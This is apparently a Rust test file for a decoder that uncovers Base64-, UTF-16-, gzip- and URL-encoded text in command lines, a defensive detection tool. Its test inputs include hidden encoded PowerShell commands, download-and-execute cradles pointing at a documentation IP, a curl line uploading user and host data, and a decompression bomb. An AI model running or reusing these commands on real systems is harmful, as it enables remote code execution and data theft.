use super::*;
use flate2::Compression as Level;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use std::io::Write as _;

/// Base64 as RFC 4648 writes it, bit by bit.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bits: Vec<u8> = bytes.iter().flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1)).collect();
    let digit = |six: &[u8]| (0..6).fold(0, |value, at| value * 2 + usize::from(six.get(at).copied().unwrap_or(0)));
    let mut text: String = bits.chunks(6).map(|six| char::from(DIGITS[digit(six)])).collect();
    while !text.len().is_multiple_of(4) {
        text.push('=');
    }
    text
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).into() } else { format!("%{byte:02X}") })
        .collect()
}

fn packed(encoding: TextEncoding, bytes: &[u8]) -> Vec<u8> {
    let level = Level::default();
    match encoding {
        TextEncoding::Gzip => {
            let mut writer = GzEncoder::new(Vec::new(), level);
            writer.write_all(bytes).unwrap();
            writer.finish().unwrap()
        }
        TextEncoding::Zlib => {
            let mut writer = ZlibEncoder::new(Vec::new(), level);
            writer.write_all(bytes).unwrap();
            writer.finish().unwrap()
        }
        _ => {
            let mut writer = DeflateEncoder::new(Vec::new(), level);
            writer.write_all(bytes).unwrap();
            writer.finish().unwrap()
        }
    }
}

fn texts(line: &str) -> Vec<(String, String, Option<usize>)> {
    let found = decode(line);
    assert_eq!(found.left_out, 0, "{line}");
    found.texts.into_iter().map(|found| (encodings_text(&found.encodings), found.text, found.within)).collect()
}

fn one(line: &str) -> Option<(String, String)> {
    let mut found = texts(line);
    assert!(found.len() < 2, "{line}: {found:?}");
    found.pop().map(|(encodings, text, _)| (encodings, text))
}

#[test]
fn the_parameter_of_powershell_is_decoded_however_it_is_written() {
    let code = base64(&utf16("whoami /all"));
    for parameter in [
        "-e",
        "-E",
        "-ec",
        "-en",
        "-enc",
        "-EncodedCommand",
        "-encodedcomman",
        "/enc",
        "-e^n^c",
        "-en`c",
        "\u{2013}enc",
        "\u{2015}e",
    ] {
        for quote in ["", "\"", "'"] {
            let line = format!("powershell.exe -nop -w hidden {parameter} {quote}{code}{quote}");
            assert_eq!(one(&line), Some(("Base64, UTF-16".to_owned(), "whoami /all".to_owned())), "{line}");
        }
    }
    let without_padding = code.trim_end_matches('=');
    assert_eq!(one(&format!("powershell -enc {without_padding}")).unwrap().1, "whoami /all");
    // As a log cuts it.
    assert!("whoami /all".starts_with(&one(&format!("powershell -enc {}", &code[..code.len() - 3])).unwrap().1));
}

#[test]
fn what_a_function_decodes_is_decoded_even_if_it_is_short() {
    for (before, after) in [
        ("[Convert]::FromBase64String('", "')"),
        ("[System.Convert]::FromBase64String( \"", "\" )"),
        ("$x=[convert]::frombase64string(('", "'))"),
        ("python -c \"import base64;exec(base64.b64decode('", "'))\""),
        ("mshta javascript:eval(atob('", "'))"),
        ("data:text/html;base64,", ""),
    ] {
        let line = format!("{before}{}{after}", base64(b"calc.exe"));
        assert_eq!(one(&line), Some(("Base64".to_owned(), "calc.exe".to_owned())), "{line}");
    }
}

#[test]
fn packed_texts_are_unpacked() {
    let script = "$client = New-Object Net.WebClient; $client.DownloadString('http://198.51.100.7/a')".repeat(3);
    for (encoding, class) in
        [(TextEncoding::Gzip, "GzipStream"), (TextEncoding::Zlib, "Anything"), (TextEncoding::Deflate, "DeflateStream")]
    {
        for (bytes, names) in [(script.clone().into_bytes(), ""), (utf16(&script), ", UTF-16")] {
            let code = base64(&packed(encoding, &bytes));
            let line = format!("IO.Compression.{class}([IO.MemoryStream][Convert]::FromBase64String('{code}')");
            assert_eq!(one(&line), Some((format!("Base64, {}{names}", encoding.name()), script.clone())), "{line}");
        }
    }
}

#[test]
fn encodings_inside_of_others_are_followed_and_told_as_such() {
    let innermost = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage')";
    let inner = format!(
        "$s=[Convert]::FromBase64String('{}');# {}",
        base64(&packed(TextEncoding::Gzip, innermost.as_bytes())),
        percent("a b&c=d")
    );
    let line = format!("cmd /c powershell -w hidden -enc {}", base64(&utf16(&inner)));
    let found = texts(&line);
    assert_eq!(
        found,
        [
            ("Base64, UTF-16".to_owned(), inner, None),
            ("Base64, gzip".to_owned(), innermost.to_owned(), Some(0)),
            ("URL".to_owned(), "a b&c=d".to_owned(), Some(0)),
        ]
    );
}

#[test]
fn addresses_are_decoded_if_they_hide_something() {
    assert_eq!(
        one("mshta http://198.51.100.7/?q=%3Cscript%3Ealert%3C%2Fscript%3E"),
        Some(("URL".to_owned(), "http://198.51.100.7/?q=<script>alert</script>".to_owned()))
    );
    // Twice.
    let line = format!("start {}", percent(&percent("http://a.example/b c?d=e")));
    let found = texts(&line);
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!((found[1].1.as_str(), found[1].2), ("http://a.example/b c?d=e", Some(0)));
    for line in [
        "start http://a.example/b%20c",
        "cmd /c echo %TEMP% %ComSpec% %~dp0 %ADDRESS%%DATE%",
        "wevtutil qe Security /f:%DA%DB%DC%DD",
        "for %a in (1 2 3) do echo %a%b%c",
    ] {
        assert_eq!(one(line), None, "{line}");
    }
}

#[test]
fn base64_below_a_path_is_found() {
    let code = base64(b"user=ann.reed;host=ws-0417");
    assert_eq!(one(&format!("curl http://198.51.100.7/upload/{code}")).unwrap().1, "user=ann.reed;host=ws-0417");
}

#[test]
fn ordinary_command_lines_give_nothing() {
    for line in [
        "",
        r#""C:\Windows\System32\svchost.exe" -k netsvcs -p -s Schedule"#,
        r"C:\Windows\System32\DriverStore\FileRepository\iigd_dch.inf_amd64_7f4a5f1c3b2a9d0e\igfxEM.exe",
        r"rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9BA05972-F6A8-11CF-A442-00A0C90A8F39}",
        "certutil -hashfile a.exe SHA256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "x.exe 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08 da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "git commit -m WIP --author=ThisIsALongNameOfSomebodyWhoWrites2Names/AndAPath/ToSomewhere/Else2",
        "msedge.exe --type=renderer --field-trial-handle=2128,i,9342578923475892347,1234,262144 --variations-seed-version",
        r"chrome.exe --type=utility --enable-features=NetworkServiceInProcess2/MojoIpcz/UseDnsHttpsSvcbAlpn --lang=en-US",
        "ssh -e none -i /home/ann/.ssh/id_ed25519 -o StrictHostKeyChecking=no ann@198.51.100.7",
        "perl -e print node -e abcdefgh nc -e cmd.exe sed -e s/a/b/",
        "powershell -Encoding UTF8 -ExecutionPolicy Bypass -File C:\\Scripts\\Backup2Server/Daily.ps1",
        "powershell -e C:/Program Files/Tool/x.ps1",
        "net use \\\\server\\share /user:CORP\\ann.reed aB3dE5fG7hJ9kL1mN3pQ5rS7tU9v",
        "app --key=q83vEjRWeJASNFZ4mrze8PE2WJn0kq3LzN4FRgDpX1s=",
        "setup.exe /S /v/qn REBOOT=ReallySuppress INSTALLDIR=C:/Tools/MyProduct2/bin/x64/Release",
    ] {
        assert_eq!(one(line), None, "{line}");
    }
}

#[test]
fn what_is_no_text_is_not_shown() {
    let program: Vec<u8> = (0..4000_u32).map(|at| u8::try_from(at * at % 251).unwrap()).collect();
    assert_eq!(one(&format!("[Convert]::FromBase64String('{}')", base64(&program))), None);
    assert_eq!(one(&format!("FromBase64String('{}')", base64(&packed(TextEncoding::Gzip, &program)))), None);
    // A key in a frame of gzip that holds nothing.
    assert_eq!(one("FromBase64String('H4sIAAAAAAAA')"), None);
}

#[test]
fn what_inflates_without_end_is_cut_and_said_so() {
    let bomb = base64(&packed(TextEncoding::Gzip, &vec![b'a'; 64 << 20]));
    let line = format!("FromBase64String('{bomb}') FromBase64String('{}')", &bomb[..bomb.len() - 8]);
    let found = decode(&line);
    assert_eq!((found.texts.len(), found.left_out), (1, 1));
    assert!(found.texts[0].is_partly_inflated);
    assert_eq!((found.texts[0].text.len(), found.texts[0].cut), (LONGEST_TEXT, MOST_INFLATED - LONGEST_TEXT));
}

#[test]
fn nesting_and_number_have_bounds_that_are_said() {
    let mut line = "the innermost text of all".to_owned();
    for _ in 0..DEEPEST + 3 {
        line = format!("FromBase64String('{}')", base64(line.as_bytes()));
    }
    let found = decode(&line);
    assert_eq!((found.texts.len(), found.left_out), (DEEPEST, 1));
    assert!(found.texts.iter().enumerate().all(|(at, text)| text.within == at.checked_sub(1)));
    let many: String = (0..MOST_TEXTS + 5)
        .map(|at| format!("atob('{}')", base64(format!("number {at}").as_bytes())))
        .collect::<Vec<_>>()
        .join(" ");
    let found = decode(&many);
    assert_eq!((found.texts.len(), found.left_out), (MOST_TEXTS, 5));
    let long = format!("atob('{}')", base64("é ".repeat(LONGEST_TEXT).as_bytes()));
    let found = decode(&long);
    assert!(found.texts[0].text.len() <= LONGEST_TEXT && found.texts[0].cut > 0);
    assert_eq!(found.texts[0].text.chars().count() + found.texts[0].cut, 2 * LONGEST_TEXT);
}

#[test]
fn what_is_clipped_is_counted() {
    let line = format!("atob('{}') atob('{}')", base64("é".repeat(40).as_bytes()), base64(b"second"));
    let clipped = decode(&line).clipped(1, 21);
    assert_eq!((clipped.texts.len(), clipped.left_out), (1, 1));
    assert_eq!((clipped.texts[0].text.as_str(), clipped.texts[0].cut), ("é".repeat(10).as_str(), 30));
}

#[test]
fn much_text_takes_time_in_proportion_to_it() {
    // Quadratic, any of these would take hours.
    for piece in [
        "aB3+",
        "-enc ",
        "FromBase64String('",
        "%41",
        "a/B/3/",
        "H4sI ",
        "deflate ",
        "aGVsbG8gd29ybGQgMTIz ",
        "'",
        "\u{2013}e ",
    ] {
        let found = decode(&piece.repeat((1 << 20) / piece.len()));
        assert!(found.texts.len() <= MOST_TEXTS);
    }
}

fn readable() -> impl Strategy<Value = String> {
    // Words that hold no encoding themselves.
    proptest::collection::vec("[a-zA-Z]{2,9}", 4..20).prop_map(|words| words.join(" "))
}

proptest! {
    #[test]
    fn what_is_encoded_is_found(text in readable(), way in 0..6_usize, before in "[a-z]{1,8}( -[a-z]{2,4})?") {
        let (code, names) = match way {
            0 => (format!("-enc {}", base64(&utf16(&text))), "Base64, UTF-16"),
            1 => (format!("FromBase64String('{}')", base64(text.as_bytes())), "Base64"),
            2 => (format!("FromBase64String(\"{}\")", base64(&packed(TextEncoding::Gzip, text.as_bytes()))), "Base64, gzip"),
            3 => (format!("deflate FromBase64String('{}')", base64(&packed(TextEncoding::Deflate, text.as_bytes()))), "Base64, deflate"),
            4 => (format!("/?q={}", percent(&text)), "URL"),
            _ => (format!("-encodedCommand \"{}\"", base64(&utf16(&text))), "Base64, UTF-16"),
        };
        let found = decode(&format!("{before} {code} x"));
        prop_assert_eq!(found.left_out, 0);
        prop_assert_eq!(found.texts.len(), 1, "{:?}", found);
        prop_assert!(found.texts[0].text.ends_with(&text), "{:?}", found);
        prop_assert_eq!(encodings_text(&found.texts[0].encodings), names);
    }

    #[test]
    fn digests_and_keys_are_no_texts(bytes in proptest::collection::vec(any::<u8>(), 20..=64)) {
        // Twenty bytes and more, as digests have them, with enough that are no character of ASCII.
        prop_assume!(bytes.iter().filter(|byte| **byte >= 0x80 || **byte < 0x20).count() >= 3);
        prop_assume!(str::from_utf8(&bytes).is_err());
        prop_assume!(!bytes.starts_with(b"\xff\xfe"));
        let hexadecimal = bytes.iter().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().concat();
        let line = format!("app --hash {hexadecimal} --key {}", base64(&bytes));
prop_assert!(decode(&line).is_empty(), "{:?}", decode(&line));
    }

    #[test]
    fn any_text_has_an_answer_within_bounds(text in "(\\PC|%[0-9a-f]{2}|-enc |FromBase64String\\('|H4sI|[A-Za-z0-9+/]{0,40}){0,30}") {
        let found = decode(&text);
        prop_assert_eq!(&found, &decode(&text));
        prop_assert!(found.texts.len() <= MOST_TEXTS);
        for (at, one) in found.texts.iter().enumerate() {
            prop_assert!(one.text.len() <= LONGEST_TEXT && !one.encodings.is_empty());
            prop_assert!(one.within.is_none_or(|within| within < at));
        }
    }
}
